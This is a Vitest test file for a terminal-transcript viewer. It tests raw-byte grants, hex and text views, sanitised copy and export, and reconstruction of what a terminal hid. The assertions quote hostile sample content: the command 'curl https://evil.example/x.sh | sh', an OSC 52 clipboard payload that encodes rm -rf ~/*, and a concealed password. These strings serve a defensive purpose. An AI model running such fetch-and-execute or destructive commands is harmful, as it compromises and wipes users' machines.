// @vitest-environment happy-dom
import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { bridge } from '../../renderer/src/bridge';
import {
  copySelection, endGrant, exportCompare, exportHexDump, exportReport, moveCursor, revokeRaw, selectFromText, selectRange, tickGrant, viewMoved, walkSpan,
} from '../../renderer/src/actions';
import { MAX_PAGES, PAGE_SIZE } from '../../renderer/src/lib/page-cache';
import { session } from '../../renderer/src/session';
import { useArtifact, useGrants, useSelection, useView } from '../../renderer/src/stores';
import { hostileTranscript } from './samples';
import { NOT_INERT, grantRaw, openSample, startApp, stopApp } from './setup';

afterEach(stopApp);

describe('vault browser', () => {
  it('lists every artifact with digest, size, stream, status and removal summary; Enter opens one', async () => {
    await startApp();
    const rows = screen.getAllByTestId('artifact-row');
    expect(rows).toHaveLength(4);
    expect(rows[0].dataset.ref).toMatch(/^restricted:sha256:[0-9a-f]{64}$/);
    expect(rows[1].textContent).toMatch('stdout');
    expect(rows[1].textContent).toMatch('exit 1');
    expect(rows[0].textContent).toMatch(/spans · .* removed/);
    expect(screen.getByRole('button', { name: 'Open file…' })).toBeTruthy();
    fireEvent.keyDown(rows[0], { key: 'Enter' });
    await screen.findByTestId('text-view');
    await screen.findByTestId('report-panel');
  });
});

describe('raw access', () => {
  it('shows nothing raw before a grant, rows after, and drops every page on revoke', async () => {
    const fake = await startApp();
    await openSample();
    expect(screen.queryAllByTestId('hex-row')).toHaveLength(0);
    expect(screen.getByRole('button', { name: 'Show raw bytes' })).toBeTruthy();
    expect(fake.control.rawReads).toHaveLength(0);
    await grantRaw();
    await waitFor(() => expect(screen.getAllByTestId('hex-row').length).toBeGreaterThan(3));
    const first = document.querySelector('[data-testid=hex-row][data-offset="0"]')!;
    expect(first.querySelector('.off')!.textContent).toBe('00000000');
    expect(first.querySelectorAll('.hx')).toHaveLength(16);
    expect(screen.getByTestId('grant-banner').textContent).toMatch(/expires in 1[45]:\d\d/);
    for (const r of fake.control.rawReads) expect(r.length).toBeLessThanOrEqual(PAGE_SIZE);
    await act(() => revokeRaw());
    expect(screen.queryAllByTestId('hex-row')).toHaveLength(0);
    expect(session()!.pages.size).toBe(0);
    expect(fake.control.grants.size).toBe(0);
    expect(screen.queryByTestId('grant-banner')).toBeNull();
  });

  it('says so when the request is denied', async () => {
    await startApp({ decide: () => 'deny' });
    await openSample();
    fireEvent.click(screen.getByRole('button', { name: 'Show raw bytes' }));
    await screen.findByTestId('raw-denied');
    expect(screen.queryAllByTestId('hex-row')).toHaveLength(0);
  });

  it('drops the cache when the grant expires', async () => {
    let now = 1_000_000;
    await startApp({ now: () => now, grantTtlMs: 60_000 });
    await openSample();
    await grantRaw();
    await waitFor(() => expect(session()!.pages.size).toBeGreaterThan(0));
    now += 61_000;
    await act(async () => tickGrant(now));
    await waitFor(() => expect(useGrants.getState().grant).toBeNull());
    expect(session()!.pages.size).toBe(0);
    expect(screen.queryAllByTestId('hex-row')).toHaveLength(0);
    expect(screen.getByTestId('raw-ended').textContent).toMatch('expired');
  });
});

describe('grant revoked in main', () => {
  it('notices within a few seconds and drops every page', async () => {
    const fake = await startApp();
    await openSample();
    await grantRaw();
    await waitFor(() => expect(session()!.pages.size).toBeGreaterThan(0));
    fake.control.grants.clear();
    await act(async () => tickGrant(Date.now() + 6000));
    await waitFor(() => expect(useGrants.getState().grant).toBeNull());
    expect(session()!.pages.size).toBe(0);
    expect(screen.queryAllByTestId('hex-row')).toHaveLength(0);
  });
});

describe('hex rows', () => {
  it('colours every byte of a span, payload included, and names it on hover', async () => {
    await startApp();
    await openSample();
    await grantRaw();
    const osc52 = (await bridge().getSpans(useArtifact.getState().artifact!.ref, 0, 10_000)).find((s) => s.meaning.includes('52'));
    await waitFor(() => expect(document.querySelector(`.hx[data-o="${osc52!.offset}"]`)).not.toBeNull());
    act(() => moveCursor(osc52!.offset));
    await waitFor(() => expect(document.querySelector(`.hx[data-o="${osc52!.offset + osc52!.length - 1}"]`)).not.toBeNull());
    for (let o = osc52!.offset; o < osc52!.offset + osc52!.length; o++) {
      const el = document.querySelector(`.hx[data-o="${o}"]`);
      if (el) expect(el.className, `byte ${o}`).toContain('cls-osc');
    }
    expect(document.querySelector(`.hx[data-o="${osc52!.offset}"]`)!.className).toContain('ss');
    expect(document.querySelector(`.hx[data-o="${osc52!.offset + osc52!.length}"]`)!.className).not.toContain('cls-osc');
    fireEvent.pointerMove(document.querySelector(`.hx[data-o="${osc52!.offset + 10}"]`)!);
    expect(screen.getByTestId('span-description').textContent).toMatch(`OSC 52 clipboard access, ${osc52!.length} bytes, ended by BEL`);
  });

  it('condenses a caret row wider than its column, or cuts it with a marker naming the bytes left out', async () => {
    await startApp();
    await openSample();
    await grantRaw();
    await waitFor(() => expect(screen.getAllByTestId('caret-more').length).toBeGreaterThan(0));
    let squeezed = 0;
    for (const row of screen.getAllByTestId('hex-row')) {
      const start = Number(row.dataset.offset);
      const bytes = row.querySelectorAll('.hx[data-o]').length;
      const drawn = [...row.querySelectorAll<HTMLElement>('.ct[data-o]')].map((c) => Number(c.dataset.o));
      // The drawn cells are the row's first bytes, in order.
      expect(drawn).toEqual(drawn.map((_, k) => start + k));
      const more = row.querySelector<HTMLElement>('[data-testid=caret-more]');
      if (more) {
        const cut = bytes - drawn.length;
        expect(cut).toBeGreaterThan(0);
        expect(more.textContent).toBe(`+${cut}`);
        expect(more.title).toMatch(new RegExp(`^${cut} more bytes: .+`));
      } else {
        expect(drawn.length, `row ${start.toString(16)}`).toBe(bytes);
      }
      if (row.querySelector('.caret-cells.squeezed')) {
        squeezed++;
        // A condensed row's whole notation is its tooltip.
        expect(row.querySelector<HTMLElement>('.caret')!.title.length).toBeGreaterThan(0);
      }
    }
    // The sample's tag characters (12 columns per 4 bytes) need more than the column holds.
    expect(squeezed).toBeGreaterThan(0);
  });

  it('moves the cursor with the keyboard and extends the selection with shift', async () => {
    await startApp();
    await openSample();
    await grantRaw();
    const grid = await screen.findByTestId('hex-grid');
    fireEvent.keyDown(grid, { key: 'ArrowRight' });
    fireEvent.keyDown(grid, { key: 'ArrowDown' });
    expect(useSelection.getState().cursor).toBe(17);
    fireEvent.keyDown(grid, { key: 'ArrowRight', shiftKey: true });
    expect(useSelection.getState().range).toEqual([17, 19]);
    fireEvent.keyDown(grid, { key: 'End', ctrlKey: true });
    expect(useSelection.getState().cursor).toBe(useArtifact.getState().artifact!.size - 1);
  });
});

describe('text view and linking', () => {
  it('draws removed spans as chips (an element with an icon and class label, not bracket text)', async () => {
    await startApp();
    await openSample();
    const chips = await screen.findAllByTestId('chip');
    expect(chips.length).toBeGreaterThan(5);
    const chip = chips.find((c) => c.textContent!.includes('52'))!;
    expect(chip.querySelector('.chip-icon')).not.toBeNull();
    expect(chip.querySelector('.chip-cls')!.textContent).toBe('OSC');
    expect(chip.getAttribute('aria-label')).toMatch(/^Removed: OSC 52 clipboard access, \d+ bytes, ended by BEL/);
    // the payload never shows as text
    expect(screen.getByTestId('text-view').textContent).not.toContain('cm0gLXJmIH4vKgo=');
    expect(screen.getByTestId('text-view').textContent).not.toContain('evil.example/steal');
  });

  it('clicking a chip selects its bytes; moving the cursor lights up the text line', async () => {
    await startApp();
    await openSample();
    const chip = (await screen.findAllByTestId('chip')).find((c) => c.textContent!.includes('52'))!;
    fireEvent.mouseUp(chip);
    const offset = Number(chip.dataset.offset);
    const sel = useSelection.getState();
    expect(sel.cursor).toBe(offset);
    expect(sel.range![0]).toBe(offset);
    expect(chip.className).toContain('sel');
    act(() => moveCursor(1));
    await waitFor(() => expect(useSelection.getState().textLine).toBe(0));
    act(() => moveCursor(offset));
    await waitFor(() => expect(useSelection.getState().textLine).toBe(Number(chip.dataset.line)));
    await waitFor(() => expect(document.querySelector(`[data-testid=text-line][data-line="${chip.dataset.line}"]`)!.className).toContain('linked'));
  });

  it('walks occurrences of a meaning from the report', async () => {
    await startApp();
    await openSample();
    const panel = screen.getByTestId('report-panel');
    const row = within(panel).getAllByTestId('report-meaning').find((r) => r.dataset.key === 'c0: CR carriage return')!;
    fireEvent.click(within(row).getByRole('button', { name: /^Next/ }));
    await waitFor(() => expect(useSelection.getState().cursor).toBeGreaterThan(0));
    const first = useSelection.getState().cursor;
    await act(() => walkSpan({ cls: 0, meaning: 'CR carriage return' }, 1));
    expect(useSelection.getState().cursor).toBeGreaterThan(first);
    await act(() => walkSpan({ cls: 0, meaning: 'CR carriage return' }, -1));
    expect(useSelection.getState().cursor).toBe(first);
  });
});

describe('inspector', () => {
  it('shows the cursor byte in every base and both readings', async () => {
    await startApp();
    await openSample();
    await grantRaw();
    act(() => moveCursor(12)); // ESC of the OSC 0 title
    const insp = await screen.findByTestId('inspector');
    await waitFor(() => expect(insp.textContent).toMatch('0x1b'));
    expect(insp.textContent).toMatch('27');
    expect(insp.textContent).toMatch('0o033');
    expect(insp.textContent).toMatch('0001 1011');
    // The ESC names what it opens, in both readings; "(lone)" is for a lone ESC only.
    await waitFor(() => expect(insp.textContent).toMatch('UTF-8 termESC — introduces OSC 0 set icon name and window title'));
    expect(insp.textContent).toMatch('8-bit VT500ESC — introduces OSC 0 set icon name and window title');
    expect(insp.textContent).not.toMatch('lone');
    // ASCII is a well-formed one-byte sequence.
    expect(insp.textContent).toMatch('UTF-8one byte, U+001B');
    expect(within(insp).getByTestId('inspector-span').textContent).toMatch('OSC 0 set icon name and window title');
  });
});

describe('copy and export', () => {
  it('never passes raw bytes on: every clipboard and export text is inert', async () => {
    const fake = await startApp();
    await openSample();
    await grantRaw();
    act(() => selectRange(0, useArtifact.getState().artifact!.size));
    for (const kind of ['hex', 'caret', 'c-array', 'text', 'offset'] as const) await act(() => copySelection(kind));
    await act(() => exportHexDump('artifact'));
    await act(() => exportReport('json'));
    await act(() => exportReport('md'));
    await act(() => exportCompare());
    expect(fake.control.copies.map((c) => c.kind)).toEqual(['hex', 'caret', 'c-array', 'text', 'offset']);
    expect(fake.control.exports.map((e) => e.kind)).toEqual(['hex-dump', 'report-json', 'report-md', 'compare-md']);
    for (const t of [...fake.control.copies, ...fake.control.exports]) expect(t.text, t.kind).not.toMatch(NOT_INERT);
    const hex = fake.control.copies[0].text;
    expect(hex.startsWith('24 20 6d 61 6b 65')).toBe(true);
    expect(fake.control.copies[1].text).toContain('^[]52;c;');
    expect(fake.control.copies[2].text).toMatch(/^\/\* offset 0x00000000, \d+ bytes \*\/\nconst unsigned char bytes\[\d+\] = \{\n {2}0x24, 0x20/);
    expect(fake.control.copies[3].text).toContain('$ make test');
    expect(fake.control.copies[3].text).not.toContain('cm0gLXJmIH4vKgo=');
    expect(fake.control.exports[3].text).toContain('| Line | Raw range |');
  });

  it('without a grant copies sanitized text only', async () => {
    const fake = await startApp();
    await openSample();
    await act(() => copySelection('hex'));
    expect(fake.control.copies).toHaveLength(0);
    expect(useView.getState().notice).toMatch(/needs raw access/);
    const line = session()!.text.line(0)!;
    act(() => selectFromText(line, 0));
    await act(() => copySelection('text'));
    expect(fake.control.copies[0]).toEqual({ kind: 'text', text: '$ make test' });
  });

  it('prevents dragging bytes or chips out', async () => {
    await startApp();
    await openSample();
    const chip = (await screen.findAllByTestId('chip'))[0];
    const ev = new Event('dragstart', { bubbles: true, cancelable: true });
    chip.dispatchEvent(ev);
    expect(ev.defaultPrevented).toBe(true);
    expect(screen.getByTestId('text-grid').getAttribute('draggable')).toBe('false');
  });
});

describe('screen reconstruction', () => {
  it('lists what the terminal hid (overwritten, erased, concealed), selects its bytes, and shows the last screen as seen', async () => {
    await startApp();
    await openSample(0, 0);
    fireEvent.click(screen.getByRole('tab', { name: 'Screen' }));
    const panel = await screen.findByTestId('screen-panel');
    await waitFor(() => expect(within(panel).getAllByTestId('screen-finding').length).toBeGreaterThan(2));
    const texts = within(panel).getAllByTestId('screen-finding').map((li) => li.textContent ?? '');
    expect(texts.some((t) => t.startsWith('erased') && t.includes('curl https://evil.example/x.sh | sh'))).toBe(true);
    expect(texts.some((t) => t.startsWith('overwritten') && t.includes('downloading deps: 10%'))).toBe(true);
    expect(texts.some((t) => t.startsWith('concealed') && t.includes('hunter2'))).toBe(true);
    // the last screen: the concealed password is blank there, the erased command is gone
    const last = within(panel).getByTestId('screen-last').textContent ?? '';
    expect(last).toContain('password:');
    expect(last).not.toContain('hunter2');
    expect(last).not.toContain('evil.example/x.sh | sh');
    expect(last).not.toMatch(NOT_INERT);
    // a finding selects its raw bytes (Enter on the focused button, like a click)
    const curl = within(panel).getAllByRole('button', { name: /^erased at 0x/ }).find((b) => b.getAttribute('aria-label')?.includes('curl'))!;
    fireEvent.click(curl);
    const range = useSelection.getState().range!;
    expect(new TextDecoder().decode(hostileTranscript().subarray(range[0], range[1]))).toBe('curl https://evil.example/x.sh | sh');
    // the text view marks, in place, what the terminal hid
    await waitFor(() => expect(document.querySelector('[data-testid=text-view] .hid-erased')).not.toBeNull());
    const marked = [...document.querySelectorAll<HTMLElement>('[data-testid=text-view] .hid')].map((e) => [e.className, e.textContent]);
    expect(marked).toContainEqual(['hid hid-erased', 'curl https://evil.example/x.sh | sh']);
    expect(marked).toContainEqual(['hid hid-concealed', 'hunter2']);
    expect(document.querySelector<HTMLElement>('.hid-erased')!.title).toMatch(/^erased from the screen by the bytes at 0x/);
    // a drag inside a marked part still maps to exactly its bytes: "evil" in the erased command,
    // "nter" in the concealed password, and the overwritten part that starts inside its piece
    const drag = (el: Element, at: number, length: number): string => {
      const node = el.firstChild!;
      const dom = document.createRange();
      dom.setStart(node, at);
      dom.setEnd(node, at + length);
      window.getSelection()!.removeAllRanges();
      window.getSelection()!.addRange(dom);
      fireEvent.mouseUp(el);
      window.getSelection()!.removeAllRanges();
      const r = useSelection.getState().range!;
      return new TextDecoder().decode(hostileTranscript().subarray(r[0], r[1]));
    };
    expect(drag(document.querySelector('.hid-erased')!, 'curl https://'.length, 4)).toBe('evil');
    expect(drag(document.querySelector('.hid-concealed')!, 2, 4)).toBe('nter');
    const inner = [...document.querySelectorAll<HTMLElement>('.hid-overwritten')].find((e) => Number(e.dataset.sub) > 0)!;
    expect(drag(inner, 0, inner.textContent!.length)).toBe(inner.textContent);
    // another terminal size: asked again, for that size
    fireEvent.change(within(panel).getByLabelText('Columns'), { target: { value: '20' } });
    fireEvent.click(within(panel).getByRole('button', { name: 'Reconstruct' }));
    await waitFor(() => expect(within(panel).getByText(/20×24/)).toBeTruthy());
  });
});

describe('scale: a 4 GiB artifact', () => {
  it('lands a far jump once the bytes of its rows are in: no placeholder rows drawn first', async () => {
    const fake = await startApp({ bigBytes: 4 * 2 ** 30 });
    await openSample(2, 0);
    const size = useArtifact.getState().artifact!.size;
    await grantRaw();
    // Every cell of the target row as it first appears in the DOM.
    const first: string[] = [];
    // And every row drawn on the way: none far from the target (the list lands on its rows in
    // one commit, not first on the start of a re-based window and then, a scroll event later, there).
    const drawn = new Set<number>();
    const observer = new MutationObserver(() => {
      const cell = document.querySelector(`.hx[data-o="${size - 1}"]`);
      if (cell && first.length === 0) first.push(cell.textContent ?? '');
      for (const row of document.querySelectorAll<HTMLElement>('[data-testid=hex-row]')) drawn.add(Number(row.dataset.offset));
    });
    observer.observe(document.body, { childList: true, subtree: true, characterData: true });
    fake.control.rawDelayMs = 60;
    act(() => moveCursor(size - 1));
    // Until the bytes come, the rows on screen stay (the old top), and the cursor has moved.
    expect(useView.getState().hexTop).toBe(0);
    expect(useSelection.getState().cursor).toBe(size - 1);
    await waitFor(() => expect(document.querySelector(`.hx[data-o="${size - 1}"]`)?.textContent).toMatch(/^[0-9a-f]{2}$/));
    observer.disconnect();
    expect(first[0]).toMatch(/^[0-9a-f]{2}$/);
    expect(useView.getState().hexTop).toBeGreaterThan(2 ** 28 - 100);
    const far = [...drawn].filter((o) => o > 16 * 200 && o < size - 16 * 200);
    expect(far, 'rows drawn far from both the old and the new position').toEqual([]);
  });

  it('lands a far jump after at most ~150 ms when the bytes are slow, and a scroll meanwhile wins', async () => {
    const fake = await startApp({ bigBytes: 4 * 2 ** 30 });
    await openSample(2, 0);
    const size = useArtifact.getState().artifact!.size;
    await grantRaw();
    fake.control.rawDelayMs = 2000;
    act(() => moveCursor(size - 1));
    expect(useView.getState().hexTop).toBe(0);
    // The view goes there before the bytes do (placeholders until they come).
    await waitFor(() => expect(useView.getState().hexTop).toBeGreaterThan(2 ** 28 - 100), { timeout: 1000 });
    expect(document.querySelector(`.hx[data-o="${size - 1}"]`)?.textContent).toBe('··');
    // A jump still waiting for its bytes when the user scrolls does not pull the view back.
    act(() => moveCursor(2 ** 31));
    act(() => {
      viewMoved();
      useView.setState({ hexTop: 5 });
    });
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect(useView.getState().hexTop).toBe(5);
    fake.control.rawDelayMs = 0;
  });

  it('jumps to the last byte, reads bounded pages, and keeps the cache bounded', async () => {
    const fake = await startApp({ bigBytes: 4 * 2 ** 30 });
    await openSample(2, 0);
    const size = useArtifact.getState().artifact!.size;
    expect(size).toBe(4 * 2 ** 30);
    await grantRaw();
    const t0 = performance.now();
    act(() => moveCursor(size - 1));
    await waitFor(() => expect(document.querySelector(`[data-testid=hex-row][data-offset="${size - 16}"]`)).not.toBeNull());
    // happy-dom is far slower than Chromium; the < 200 ms target is measured by e2e and bench:viewer
    expect(performance.now() - t0).toBeLessThan(3000);
    expect(useView.getState().hexTop).toBeGreaterThan(2 ** 28 - 100);
    // many far jumps: the page cache never holds more than its bound
    const jumps = 12;
    for (let k = 1; k <= jumps; k++) {
      act(() => moveCursor(Math.floor((size / (jumps + 1)) * k)));
      await waitFor(() => expect(document.querySelectorAll('[data-testid=hex-row]').length).toBeGreaterThan(0));
    }
    await waitFor(() => expect(fake.control.rawReads.length).toBeGreaterThan(jumps));
    expect(session()!.pages.size).toBeLessThanOrEqual(MAX_PAGES);
    for (const r of fake.control.rawReads) expect(r.length).toBeLessThanOrEqual(PAGE_SIZE);
    const rendered = document.querySelectorAll('[data-testid=hex-row]').length;
    expect(rendered).toBeLessThan(200);
    await act(() => endGrant(null, true));
  });
});
